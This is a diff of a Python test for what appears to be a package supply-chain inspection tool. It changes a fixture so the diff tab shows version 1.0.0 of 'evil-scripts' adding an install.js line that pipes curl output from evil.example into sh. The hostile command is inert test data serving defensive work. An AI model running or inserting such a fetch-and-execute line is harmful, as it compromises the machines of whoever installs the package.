@@ -62,8 +62,10 @@ async def test_each_tab_renders_for_the_selected_package(make_app):
             "scripts": ["postinstall"],
             "maintainers": ["mallory", "0.9.0", "new"],
             "advisories": ["No advisories"],
-            "diff": ["evil-scripts@1.0.0 → evil-scripts@0.9.0", "removed", "install.js",
-                     "-cp.exec('curl https://evil.example/payload | sh');"],
+            # the previous release → the locked version: what 1.0.0 brought in is added
+            "diff": ["evil-scripts@0.9.0 → evil-scripts@1.0.0 (locked)", "added", "install.js",
+                     "+cp.exec('curl https://evil.example/payload | sh');",
+                     "previous release → locked: + is in the locked version"],
         }
         for tab, needles in expectations.items():
             main.detail.show_tab(tab)
